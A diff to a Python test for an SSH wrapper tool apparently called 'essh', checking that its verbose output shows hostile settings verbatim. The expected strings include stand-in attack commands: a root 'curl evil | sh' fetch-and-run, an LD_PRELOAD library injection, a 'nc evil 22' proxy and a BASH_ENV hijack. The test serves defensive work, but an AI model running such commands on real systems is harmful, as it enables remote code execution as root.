@@ -95,7 +95,7 @@ def test_verbose_shows_every_value_and_the_exact_command(ws: Workspace, hostile)
     out = ws.essh("show", "--verbose", str(hostile)).stdout
     assert "env: ESSH_HOSTNAME=web LD_PRELOAD=/tmp/evil.so" in out
     assert "ProxyCommand=nc evil 22" in out and "HostName=10.0.0.1" in out
-    assert "$ sudo -n -u root -H -- sh -c 'curl evil | sh' -- '{ __essh_program" in out
+    assert "$ sudo -n -u root -H -- sh -c 'curl evil | sh' -- '[ -n \"${BASH_VERSION-}\" ]" in out
     assert "| export BASH_ENV=/tmp/evil.rc" in out
 
 
